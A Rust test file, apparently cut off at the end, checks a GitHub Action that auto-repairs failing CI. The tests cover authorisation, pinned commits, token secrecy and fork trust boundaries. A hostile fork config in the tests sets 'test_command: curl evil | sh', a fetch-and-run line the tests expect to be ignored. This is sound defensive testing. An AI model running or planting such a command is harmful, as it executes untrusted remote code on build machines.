//! `patchloop action` end to end against the mock GitHub with a fake repairer: triggers,
//! authorisation, the pinned head, one attempt per SHA, outputs and the job summary.

use crate::github_common;

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use github_common::*;
use patchloop::github::action::{ActionArgs, ActionEnd, run, write_files};
use patchloop::github::{RepairOutcome, RepairRequest, Repairer};
use serde_json::Value;

const PATCH: &str = "diff --git a/src/calc.py b/src/calc.py\n--- a/src/calc.py\n+++ b/src/calc.py\n@@ -4,3 +4,3 @@\n def sub(a, b):\n-    return a + b\n+    return a - b\n \n";
const PR_CALC: &str = "@@ -1,3 +1,10 @@\n a\n+b\n+c\n+d\n+e\n+f\n+g\n+h\n b2\n c2\n";
const TOKEN: &str = "ghs_actiontoken0123456789abcdefghijklmno";

struct Env {
    vars: HashMap<String, String>,
    dir: tempfile::TempDir,
}

impl Env {
    fn new(mock: &MockGitHub, event_name: &str, payload: &[u8]) -> Env {
        let dir = tempfile::tempdir().unwrap();
        let ev = dir.path().join("event.json");
        std::fs::write(&ev, payload).unwrap();
        std::fs::create_dir_all(dir.path().join("ws")).unwrap();
        let mut vars = HashMap::new();
        for (k, v) in [
            ("GITHUB_EVENT_NAME", event_name.to_string()),
            ("GITHUB_EVENT_PATH", ev.display().to_string()),
            ("GITHUB_API_URL", mock.url()),
            ("GITHUB_REPOSITORY", format!("{OWNER}/{REPO}")),
            ("GITHUB_TOKEN", TOKEN.to_string()),
            (
                "GITHUB_WORKSPACE",
                dir.path().join("ws").display().to_string(),
            ),
            (
                "GITHUB_OUTPUT",
                dir.path().join("out").display().to_string(),
            ),
            (
                "GITHUB_STEP_SUMMARY",
                dir.path().join("summary.md").display().to_string(),
            ),
        ] {
            vars.insert(k.to_string(), v);
        }
        Env { vars, dir }
    }
    fn get(&self) -> impl Fn(&str) -> Option<String> + Send + Sync + '_ {
        move |k: &str| self.vars.get(k).cloned()
    }
    fn file(&self, name: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(name)).unwrap_or_default()
    }
}

/// The derived workflow_run failure, re-pointed at Codertocat/Hello-World (the mock's repo).
fn workflow_run_payload(edit: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut v: Value = serde_json::from_slice(&fixture(
        "webhooks-derived/workflow_run/completed.failure.pull_request.json",
    ))
    .unwrap();
    v["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
    v["workflow_run"]["head_repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
    v["workflow_run"]["pull_requests"][0]["head"]["sha"] = HEAD.into();
    edit(&mut v);
    serde_json::to_vec(&v).unwrap()
}

fn comment_payload(edit: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut v: Value = serde_json::from_slice(&fixture(
        "webhooks-derived/issue_comment/created.on-pull-request.patchloop-fix.json",
    ))
    .unwrap();
    edit(&mut v);
    serde_json::to_vec(&v).unwrap()
}

fn setup_mock(mock: &MockGitHub) {
    mock.add_pr(2, HEAD, vec![("src/calc.py", "modified", PR_CALC)]);
    mock.with(|s| {
        s.jobs.insert(
            289782451,
            serde_json::json!({"total_count": 2, "jobs": [
                {"id": 11, "name": "lint", "conclusion": "success"},
                {"id": 12, "name": "test", "conclusion": "failure"}]}),
        );
        s.logs.insert(
            12,
            "2026-01-02T03:04:05.0000000Z ##[group]Run python -m pytest -q\n\
             2026-01-02T03:04:06.0000000Z FAILED tests/test_calc.py::test_sub - assert 5 == -1\n"
                .into(),
        );
        s.permissions.insert("Codertocat".into(), "write".into());
    });
}

fn args() -> ActionArgs {
    ActionArgs::default()
}

#[tokio::test]
async fn failed_run_on_a_pr_becomes_one_review_with_outputs_and_summary() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let fake = FakeRepairer::new(verified(PATCH));
    let report = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(report.end, ActionEnd::Fixed);
    let req = fake.calls.lock().unwrap()[0].clone();
    assert_eq!(req.failing_tests, vec!["tests/test_calc.py::test_sub"]);
    assert_eq!(
        req.test_cmd
            .as_ref()
            .map(patchloop::testcmd::TestCommand::as_str),
        Some("python -m pytest -q")
    );
    assert_eq!(req.head_sha, HEAD);
    assert_eq!(req.pr, Some(2));
    assert!(
        !format!("{req:?}").contains(TOKEN),
        "the token never reaches the pipeline"
    );
    mock.with(|s| {
        assert_eq!(s.reviews.len(), 1);
        assert_eq!(s.reviews[0]["comments"][0]["line"], 5);
        assert_eq!(s.comments.len(), 1);
    });
    write_files(&report, &env.get()).unwrap();
    let out = env.file("out");
    assert!(out.contains("verdict<<"), "{out}");
    assert!(out.contains("\nverified\n"));
    assert!(out.contains("comment-url<<") && out.contains("issuecomment-"));
    let summary = env.file("summary.md");
    assert!(
        summary.contains("`verified`") && summary.contains("```diff"),
        "{summary}"
    );
    assert!(summary.contains("$0.0123"));
    assert!(mock.violations().is_empty(), "{:?}", mock.violations());
    // The token went only to the API, never into a body.
    assert!(mock.with(|s| s.requests.iter().all(|r| {
        r.body
            .as_ref()
            .is_none_or(|b| !b.to_string().contains(TOKEN))
    })));
}

#[tokio::test]
async fn twenty_reruns_of_the_same_failure_make_one_comment_and_one_repair() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let fake = FakeRepairer::new(verified(PATCH));
    for i in 0..20 {
        let r = run(
            &args(),
            &env.get(),
            fake.as_ref(),
            Arc::new(FakeClock::default()),
            fast_policy(),
        )
        .await
        .unwrap();
        if i > 0 {
            assert!(
                matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("already attempted")),
                "{:?}",
                r.end
            );
        }
    }
    assert_eq!(fake.count(), 1);
    mock.with(|s| {
        assert_eq!(s.comments.len(), 1);
        assert_eq!(s.reviews.len(), 1);
    });
}

#[tokio::test]
async fn fork_runs_find_the_pr_by_head_sha() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let payload = workflow_run_payload(|v| {
        v["workflow_run"]["pull_requests"] = Value::Array(vec![]);
        v["workflow_run"]["head_repository"]["full_name"] = "forker/Hello-World".into();
    });
    let env = Env::new(&mock, "workflow_run", &payload);
    let fake = FakeRepairer::new(verified(PATCH));
    run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(fake.calls.lock().unwrap()[0].pr, Some(2));
    mock.with(|s| assert_eq!(s.reviews.len(), 1));
}

async fn comment_starts_nothing(edit: impl FnOnce(&mut Value), perm: Option<&str>, why: &str) {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    mock.with(|s| {
        s.permissions.clear();
        if let Some(p) = perm {
            s.permissions.insert("Codertocat".into(), p.into());
        }
    });
    let env = Env::new(&mock, "issue_comment", &comment_payload(edit));
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    match &r.end {
        ActionEnd::Ignored(w) => {
            assert!(w.contains(why), "{w} (wanted {why})");
            assert!(!w.contains('\n'), "one line: {w}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(fake.count(), 0, "no repair");
    assert!(
        mock.writes().is_empty(),
        "no reaction, no post: {:?}",
        mock.writes()
    );
}

#[tokio::test]
async fn unauthorised_comments_start_nothing() {
    // author_association NONE / CONTRIBUTOR, not a collaborator (404 from the API).
    comment_starts_nothing(
        |v| v["comment"]["author_association"] = "NONE".into(),
        None,
        "`none` permission",
    )
    .await;
    comment_starts_nothing(
        |v| v["comment"]["author_association"] = "CONTRIBUTOR".into(),
        None,
        "`none`",
    )
    .await;
    // A MEMBER whose repository permission is read or triage.
    comment_starts_nothing(
        |v| v["comment"]["author_association"] = "MEMBER".into(),
        Some("read"),
        "`read`",
    )
    .await;
    comment_starts_nothing(
        |v| v["comment"]["author_association"] = "COLLABORATOR".into(),
        Some("triage"),
        "`triage`",
    )
    .await;
    // An OWNER association in the payload is not trusted on its own either.
    comment_starts_nothing(
        |_| {},
        Some("read"),
        "Codertocat has `read` permission; /patchloop fix needs `write`",
    )
    .await;
}

#[tokio::test]
async fn bots_edits_quotes_and_fences_start_nothing() {
    comment_starts_nothing(
        |v| {
            v["comment"]["user"]["type"] = "Bot".into();
            v["comment"]["user"]["login"] = "other-bot[bot]".into();
        },
        Some("admin"),
        "by a bot",
    )
    .await;
    comment_starts_nothing(
        |v| v["action"] = "edited".into(),
        Some("admin"),
        "was edited",
    )
    .await;
    comment_starts_nothing(
        |v| v["comment"]["body"] = "> /patchloop fix".into(),
        Some("admin"),
        "first line",
    )
    .await;
    comment_starts_nothing(
        |v| v["comment"]["body"] = "```\n/patchloop fix\n```".into(),
        Some("admin"),
        "first line",
    )
    .await;
    comment_starts_nothing(
        |v| v["comment"]["body"] = "lgtm\n/patchloop fix".into(),
        Some("admin"),
        "first line",
    )
    .await;
    // patchloop's own comment quoting the command.
    comment_starts_nothing(
        |v| {
            v["comment"]["body"] =
                "/patchloop fix\n<!-- patchloop:v1 repo=x sha=y pr=2 patch=none -->".into()
        },
        Some("admin"),
        "patchloop's own",
    )
    .await;
}

#[tokio::test]
async fn an_authorised_command_reacts_and_posts() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(
        &mock,
        "issue_comment",
        &comment_payload(|v| {
            v["comment"]["body"] = "/patchloop fix --model qwen2.5-coder:7b".into()
        }),
    );
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::Fixed);
    let req = fake.calls.lock().unwrap()[0].clone();
    assert_eq!(req.model.as_deref(), Some("qwen2.5-coder:7b"));
    assert_eq!(
        req.head_sha, HEAD,
        "pinned from the PR at authorisation time"
    );
    mock.with(|s| {
        let r: Vec<(u64, &str)> = s.reactions.iter().map(|(i, c)| (*i, c.as_str())).collect();
        assert_eq!(r, vec![(492700400, "eyes"), (492700400, "rocket")]);
        assert_eq!(s.reviews.len(), 1);
    });
    assert!(mock.violations().is_empty(), "{:?}", mock.violations());
}

/// A repairer during whose run the PR author pushes.
struct PushDuringRepair {
    mock: Arc<Mutex<State>>,
}

#[async_trait::async_trait]
impl Repairer for PushDuringRepair {
    async fn repair(&self, _req: RepairRequest) -> anyhow::Result<RepairOutcome> {
        self.mock.lock().unwrap().prs.get_mut(&2).unwrap().head_sha =
            "1111111111111111111111111111111111111111".into();
        Ok(verified(PATCH))
    }
}

#[tokio::test]
async fn a_head_that_moves_after_authorisation_posts_nothing() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "issue_comment", &comment_payload(|_| {}));
    let rep = PushDuringRepair {
        mock: mock.state.clone(),
    };
    let r = run(
        &args(),
        &env.get(),
        &rep,
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert!(r.summary.contains("moved"), "{}", r.summary);
    assert!(matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("moved")));
    mock.with(|s| {
        assert!(s.comments.is_empty() && s.reviews.is_empty());
        let r: Vec<&str> = s.reactions.iter().map(|(_, c)| c.as_str()).collect();
        assert_eq!(r, vec!["eyes", "confused"]);
    });
}

#[tokio::test]
async fn unhandled_events_exit_quietly_and_malformed_ones_name_the_field() {
    let mock = MockGitHub::start().await;
    let env = Env::new(
        &mock,
        "check_run",
        &fixture("webhooks/check_run/completed.1.payload.json"),
    );
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert!(
        matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("does not handle `check_run`"))
    );
    assert!(mock.with(|s| s.requests.is_empty()));

    let bad = workflow_run_payload(|v| v["workflow_run"]["id"] = "x".into());
    let env = Env::new(&mock, "workflow_run", &bad);
    let e = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap_err();
    assert!(e.to_string().contains("workflow_run.id"), "{e}");
}

#[tokio::test]
async fn a_missing_token_or_permission_says_which_and_how_to_grant_it() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let mut env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    env.vars.remove("GITHUB_TOKEN");
    let fake = FakeRepairer::new(verified(PATCH));
    let e = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap_err()
    .to_string();
    assert!(
        e.contains("no GitHub token") && e.contains("permissions:\n  contents: write"),
        "{e}"
    );

    env.vars.insert("GITHUB_TOKEN".into(), TOKEN.into());
    mock.with(|s| {
        s.faults.push(Fault {
            method: "POST",
            path_contains: "/reviews",
            status: 403,
            headers: vec![],
            body: "{\"message\":\"Resource not accessible by integration\"}".into(),
            apply: false,
            times: 1,
            delay: None,
        });
    });
    let e = format!(
        "{:#}",
        run(
            &args(),
            &env.get(),
            fake.as_ref(),
            Arc::new(FakeClock::default()),
            fast_policy()
        )
        .await
        .unwrap_err()
    );
    assert!(
        e.contains("pull-requests: write") && e.contains("permissions:"),
        "{e}"
    );
    assert!(!e.contains(TOKEN));
}

#[tokio::test]
async fn dry_run_posts_nothing_but_summarises() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let fake = FakeRepairer::new(verified(PATCH));
    let a = ActionArgs {
        dry_run: true,
        ..Default::default()
    };
    let r = run(
        &a,
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(fake.count(), 1);
    assert!(
        r.summary.contains("would suggest src/calc.py:5-5"),
        "{}",
        r.summary
    );
    assert!(mock.writes().is_empty());

    // The summary carries the very bodies a real run posts.
    let real = MockGitHub::start().await;
    setup_mock(&real);
    let env = Env::new(&real, "workflow_run", &workflow_run_payload(|_| {}));
    run(
        &args(),
        &env.get(),
        FakeRepairer::new(verified(PATCH)).as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    let bodies: Vec<String> = real.with(|s| {
        let mut b: Vec<String> = s.reviews[0]["comments"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["body"].as_str().unwrap().to_string())
            .collect();
        b.push(s.comments[0].2.clone());
        b
    });
    assert_eq!(bodies.len(), 2);
    for b in &bodies {
        assert!(
            r.summary.contains(b.as_str()),
            "dry-run summary lacks the body:\n{b}\n---\n{}",
            r.summary
        );
    }
}

#[tokio::test]
async fn repo_config_and_inputs_apply() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    mock.with(|s| {
        // The org default (contents API on the org's .github repo) is not served here: the
        // mock only knows one repository, so only the repo file and inputs apply.
        s.contents.clear();
    });
    let mut env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let ws = env.dir.path().join("ws/.github");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(
        ws.join("patchloop.yml"),
        "test_command: make test\nmode: comment\nbudgets:\n  max_steps: 7\n",
    )
    .unwrap();
    env.vars.insert("INPUT_MAX-STEPS".into(), "9".into());
    let fake = FakeRepairer::new(verified(PATCH));
    run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    let req = fake.calls.lock().unwrap()[0].clone();
    assert_eq!(
        req.test_cmd
            .as_ref()
            .map(patchloop::testcmd::TestCommand::as_str),
        Some("make test"),
        "config beats the log"
    );
    assert_eq!(req.config.budgets.max_steps, 9, "inputs beat the repo file");
    mock.with(|s| {
        assert!(s.reviews.is_empty(), "mode comment: no review");
        assert_eq!(s.comments.len(), 1);
    });

    std::fs::write(ws.join("patchloop.yml"), "modle: x\n").unwrap();
    let e = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap_err();
    assert!(
        e.to_string()
            .contains(".github/patchloop.yml line 1: `modle`"),
        "{e}"
    );
}

#[tokio::test]
async fn a_checkout_that_is_not_the_pinned_commit_is_not_repaired() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let ws = env.dir.path().join("ws");
    let git = |args: &[&str]| {
        let st = std::process::Command::new("git")
            .arg("-C")
            .arg(&ws)
            .args(args)
            .output()
            .unwrap();
        assert!(st.status.success(), "{st:?}");
    };
    git(&["init", "-q"]);
    git(&[
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "x",
    ]);
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert!(
        matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("checkout")),
        "{:?}",
        r.end
    );
    assert_eq!(fake.count(), 0);
}

#[tokio::test]
async fn model_inputs_reach_the_pipeline_and_the_key_is_not_printed() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let mut env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    env.vars
        .insert("INPUT_OLLAMA-URL".into(), "http://ollama:11434".into());
    env.vars.insert(
        "INPUT_API-KEY".into(),
        "sk-secretkey0123456789abcdef".into(),
    );
    let fake = FakeRepairer::new(verified(PATCH));
    run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    let req = fake.calls.lock().unwrap()[0].clone();
    assert_eq!(req.ollama_url.as_deref(), Some("http://ollama:11434"));
    assert_eq!(
        req.api_key.as_ref().unwrap().0,
        "sk-secretkey0123456789abcdef"
    );
    assert!(!format!("{req:?}").contains("sk-secret"));
}

#[tokio::test]
async fn org_defaults_come_from_the_org_dot_github_repository() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    mock.with(|s| s.org_config = Some("model: org-model\nreruns: 7\nmode: comment\n".into()));
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let ws = env.dir.path().join("ws/.github");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("patchloop.yml"), "model: repo-model\n").unwrap();
    let fake = FakeRepairer::new(verified(PATCH));
    run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    let req = fake.calls.lock().unwrap()[0].clone();
    assert_eq!(req.model.as_deref(), Some("repo-model"), "repo beats org");
    assert_eq!(req.config.reruns, 7, "org beats defaults");
    mock.with(|s| assert!(s.reviews.is_empty(), "org mode comment applied"));

    // A bad org file names itself.
    mock.with(|s| s.org_config = Some("rerun: 1\n".into()));
    let env = Env::new(
        &mock,
        "workflow_run",
        &workflow_run_payload(|v| {
            v["workflow_run"]["head_sha"] = "2222222222222222222222222222222222222222".into()
        }),
    );
    let e = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap_err();
    assert!(
        e.to_string()
            .contains("Codertocat/.github/patchloop.yml line 1: `rerun`"),
        "{e}"
    );
}

#[tokio::test]
async fn job_logs_are_fetched_from_blob_storage_without_the_token() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let blob = wiremock::MockServer::start().await;
    wiremock::Mock::given(wiremock::matchers::path("/blob/logs/12"))
        .respond_with(
            wiremock::ResponseTemplate::new(200)
                .set_body_string("FAILED tests/test_x.py::test_y - boom\n"),
        )
        .mount(&blob)
        .await;
    mock.with(|s| s.log_host = Some(blob.uri()));
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let fake = FakeRepairer::new(verified(PATCH));
    run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(
        fake.calls.lock().unwrap()[0].failing_tests,
        vec!["tests/test_x.py::test_y"]
    );
    let got = blob.received_requests().await.unwrap();
    assert_eq!(got.len(), 1);
    assert!(
        got[0].headers.get("authorization").is_none(),
        "no token to blob storage"
    );
    // ...while API calls do carry it.
    assert!(mock.with(|s| {
        s.requests
            .iter()
            .all(|r| r.authorization.as_deref() == Some(&format!("Bearer {TOKEN}")))
    }));
}

#[tokio::test]
async fn dispatch_repairs_the_dispatched_commit_and_opens_a_pr_without_one() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    mock.with(|s| {
        s.prs.clear();
        s.contents.insert(
            "src/calc.py".into(),
            "a\nb\nc\ndef sub(a, b):\n    return a + b\n\n".into(),
        );
    });
    let mut payload: Value =
        serde_json::from_slice(&fixture("webhooks/workflow_dispatch/payload.json")).unwrap();
    payload["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
    let mut env = Env::new(
        &mock,
        "workflow_dispatch",
        &serde_json::to_vec(&payload).unwrap(),
    );
    env.vars.insert("GITHUB_SHA".into(), HEAD.into());
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::Fixed);
    assert_eq!(fake.calls.lock().unwrap()[0].head_sha, HEAD);
    mock.with(|s| {
        assert_eq!(s.created_pulls.len(), 1);
        assert_eq!(s.created_pulls[0].2, "master");
    });
    assert!(
        r.outputs["comment-url"].contains("/pull/"),
        "{:?}",
        r.outputs
    );
    assert!(mock.violations().is_empty(), "{:?}", mock.violations());
}

#[tokio::test]
async fn check_suite_failures_and_opted_in_pull_requests_are_repaired() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(
        &mock,
        "check_suite",
        &fixture("webhooks-derived/check_suite/completed.failure.json"),
    );
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::Fixed);
    assert_eq!(fake.calls.lock().unwrap()[0].pr, Some(2));
    assert!(
        fake.calls.lock().unwrap()[0].failing_tests.is_empty(),
        "no run logs for a check suite"
    );

    // pull_request: ignored by default, repaired when opted in.
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(
        &mock,
        "pull_request",
        &fixture("webhooks/pull_request/opened.payload.json"),
    );
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert!(matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("opt-in")));
    let ws = env.dir.path().join("ws/.github");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(
        ws.join("patchloop.yml"),
        "triggers:\n  pull_request: true\n",
    )
    .unwrap();
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::Fixed);
    assert_eq!(fake.count(), 1);
}

#[tokio::test]
async fn dispatch_with_an_input_ref_resolves_that_branch_not_the_workflow_sha() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    mock.with(|s| {
        s.prs.clear();
        s.refs.insert("feature".into(), HEAD.into());
        s.contents.insert(
            "src/calc.py".into(),
            "a\nb\nc\ndef sub(a, b):\n    return a + b\n\n".into(),
        );
    });
    let mut payload: Value =
        serde_json::from_slice(&fixture("webhooks/workflow_dispatch/payload.json")).unwrap();
    payload["repository"]["full_name"] = format!("{OWNER}/{REPO}").into();
    payload["inputs"]["ref"] = "feature".into();
    let mut env = Env::new(
        &mock,
        "workflow_dispatch",
        &serde_json::to_vec(&payload).unwrap(),
    );
    env.vars
        .insert("GITHUB_REF".into(), "refs/heads/master".into());
    env.vars.insert(
        "GITHUB_SHA".into(),
        "3333333333333333333333333333333333333333".into(),
    );
    let fake = FakeRepairer::new(verified(PATCH));
    run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(fake.calls.lock().unwrap()[0].head_sha, HEAD);
    mock.with(|s| {
        assert_eq!(
            s.created_pulls[0].2, "feature",
            "the fix PR targets the dispatched branch"
        )
    });
}

// ---------- fork pull requests: the trust boundary ----------

/// The fork author's config in the checkout: everything it says must be ignored.
const FORK_CONFIG: &str = "mode: pr\ntest_command: curl evil | sh\nallowed_ci_paths: ['.github/workflows/*']\n\
                           triggers:\n  comment_min_permission: write\nbudgets:\n  max_steps: 999\n";
/// The base repository's default-branch config (served by the contents API).
const BASE_CONFIG: &str = "mode: pr\ntest_command: make test\nbudgets:\n  max_steps: 7\n";

fn fork_setup(mock: &MockGitHub, env: &Env) {
    mock.with(|s| {
        s.prs.get_mut(&2).unwrap().head_repo = Some("forker/Hello-World".into());
        s.contents
            .insert(".github/patchloop.yml".into(), BASE_CONFIG.into());
    });
    let ws = env.dir.path().join("ws/.github");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("patchloop.yml"), FORK_CONFIG).unwrap();
}

/// No config from the head, nothing pushed, suggestions instead of `pr`, and a notice.
fn assert_fork_safe(
    mock: &MockGitHub,
    fake: &FakeRepairer,
    r: &patchloop::github::action::ActionReport,
) {
    let req = fake.calls.lock().unwrap()[0].clone();
    assert_eq!(
        req.test_cmd
            .as_ref()
            .map(patchloop::testcmd::TestCommand::as_str),
        Some("make test"),
        "the base's test command"
    );
    assert_eq!(req.config.budgets.max_steps, 7, "the base's budget");
    assert!(
        req.config.allowed_ci_paths.is_empty(),
        "no CI paths from the fork"
    );
    let writes = mock.writes();
    assert!(
        !writes.iter().any(|w| w.path.contains("/git/")),
        "nothing pushed into the base repository: {:?}",
        writes.iter().map(|w| &w.path).collect::<Vec<_>>()
    );
    mock.with(|s| {
        assert!(s.refs.is_empty() && s.created_pulls.is_empty() && s.blobs.is_empty());
        assert_eq!(s.reviews.len(), 1, "mode pr fell back to suggestions");
        // The config was read from the default branch (no ref), not the fork's head.
        let cfg_reads: Vec<&Recorded> = s
            .requests
            .iter()
            .filter(|q| q.path == format!("/repos/{OWNER}/{REPO}/contents/.github/patchloop.yml"))
            .collect();
        assert_eq!(cfg_reads.len(), 1);
        assert!(
            !cfg_reads[0].query.contains("ref="),
            "{}",
            cfg_reads[0].query
        );
    });
    assert!(mock.violations().is_empty(), "{:?}", mock.violations());
    let all = r.notices.join("\n");
    assert!(
        all.contains("checkout's .github/patchloop.yml is ignored")
            && all.contains("forker/Hello-World"),
        "{all}"
    );
    assert!(all.contains("never pushes a fork's commits"), "{all}");
    assert!(r.summary.contains("is ignored"), "{}", r.summary);
}

#[tokio::test]
async fn fork_workflow_runs_use_the_base_config_and_never_push() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let payload = workflow_run_payload(|v| {
        v["workflow_run"]["head_repository"]["full_name"] = "forker/Hello-World".into();
    });
    let env = Env::new(&mock, "workflow_run", &payload);
    fork_setup(&mock, &env);
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::Fixed);
    assert_fork_safe(&mock, &fake, &r);

    // With no pull request found for the fork's commit, `pr` mode posts nothing at all.
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let payload = workflow_run_payload(|v| {
        v["workflow_run"]["head_repository"]["full_name"] = "forker/Hello-World".into();
        v["workflow_run"]["pull_requests"] = Value::Array(vec![]);
    });
    let env = Env::new(&mock, "workflow_run", &payload);
    fork_setup(&mock, &env);
    mock.with(|s| s.prs.clear());
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(
        fake.calls.lock().unwrap()[0]
            .test_cmd
            .as_ref()
            .map(patchloop::testcmd::TestCommand::as_str),
        Some("make test")
    );
    assert!(mock.writes().is_empty(), "{:?}", mock.writes());
    assert!(r.summary.contains("no branch is pushed"), "{}", r.summary);
    assert!(
        r.summary.contains("```diff"),
        "the patch is still in the summary"
    );
}

#[tokio::test]
async fn fork_comment_commands_use_the_base_config_and_never_push() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "issue_comment", &comment_payload(|_| {}));
    fork_setup(&mock, &env);
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::Fixed);
    assert_fork_safe(&mock, &fake, &r);

    // Who may run the command is the base's call too: its `admin` minimum beats the fork's
    // `write` for a commenter with write permission.
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "issue_comment", &comment_payload(|_| {}));
    fork_setup(&mock, &env);
